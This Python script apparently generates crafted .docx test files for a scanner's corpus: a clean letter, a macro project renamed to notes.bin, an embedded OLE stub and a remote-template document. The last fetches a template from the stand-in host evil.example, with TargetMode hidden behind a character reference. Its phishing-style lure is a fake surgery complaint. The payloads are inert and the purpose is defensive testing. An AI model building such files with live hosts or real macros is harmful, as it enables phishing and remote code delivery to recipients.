"""Makes the crafted Office files of the test corpus (run: python3 make_office.py).

Each is a minimal but well-formed .docx package; only what it carries differs.
"""
import zipfile

CT_HEAD = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
CT_BASE = ('<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
           '<Default Extension="xml" ContentType="application/xml"/>'
           '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>'
           '<Override PartName="/docProps/core.xml" ContentType="application/vnd.openxmlformats-package.core-properties+xml"/>')
RELS_HEAD = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
ROOT_RELS = (RELS_HEAD +
             '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/>'
             '<Relationship Id="rId2" Type="http://schemas.openxmlformats.org/package/2006/relationships/metadata/core-properties" Target="docProps/core.xml"/>'
             '</Relationships>')
DOCUMENT = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
            '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" '
            'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
            '<w:body><w:p><w:r><w:t>Complaint about your surgery</w:t></w:r></w:p>'
            '<w:p><w:hyperlink r:id="rIdLink"><w:r><w:t>Read the full complaint</w:t></w:r></w:hyperlink></w:p>'
            '</w:body></w:document>')
CORE = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        '<cp:coreProperties xmlns:cp="http://schemas.openxmlformats.org/package/2006/metadata/core-properties" '
        'xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:title>Complaint</dc:title></cp:coreProperties>')
HYPERLINK = ('<Relationship Id="rIdLink" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" '
             'Target="https://sim.example/c/sample" TargetMode="External"/>')


def write(name, extra_types="", doc_rels="", settings_rels=None, extra_parts=()):
    with zipfile.ZipFile(name, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("[Content_Types].xml", CT_HEAD + CT_BASE + extra_types + "</Types>")
        z.writestr("_rels/.rels", ROOT_RELS)
        z.writestr("word/document.xml", DOCUMENT)
        z.writestr("docProps/core.xml", CORE)
        z.writestr("word/_rels/document.xml.rels", RELS_HEAD + HYPERLINK + doc_rels + "</Relationships>")
        if settings_rels is not None:
            z.writestr("word/settings.xml", '<w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:attachedTemplate r:id="rId1" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"/></w:settings>')
            z.writestr("word/_rels/settings.xml.rels", RELS_HEAD + settings_rels + "</Relationships>")
        for part, body in extra_parts:
            z.writestr(part, body)


# Accepted: a plain letter with a clickable link (hyperlinks open only when clicked).
write("clean-letter.docx")
# A macro project stored under another name, declared by its content type and relationship.
write("renamed-macro.docx",
      extra_types='<Override PartName="/word/notes.bin" ContentType="application/vnd.ms-office.vbaProject"/>',
      doc_rels='<Relationship Id="rId9" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="notes.bin"/>',
      extra_parts=[("word/notes.bin", b"\xd0\xcf\x11\xe0 not really a macro project")])
# An embedded OLE object (another program's file inside the document).
write("ole-object.docx",
      extra_types='<Default Extension="dat" ContentType="application/vnd.openxmlformats-officedocument.oleObject"/>',
      doc_rels='<Relationship Id="rId7" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/oleObject" Target="media/object1.dat"/>',
      extra_parts=[("word/media/object1.dat", b"\xd0\xcf\x11\xe0 ole")])
# A remote template that Word fetches when the file opens, its TargetMode written with character references.
write("remote-template.docx",
      settings_rels='<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
                    'Target="https://evil.example/template.dotm" TargetMode="&#69;xternal"/>')
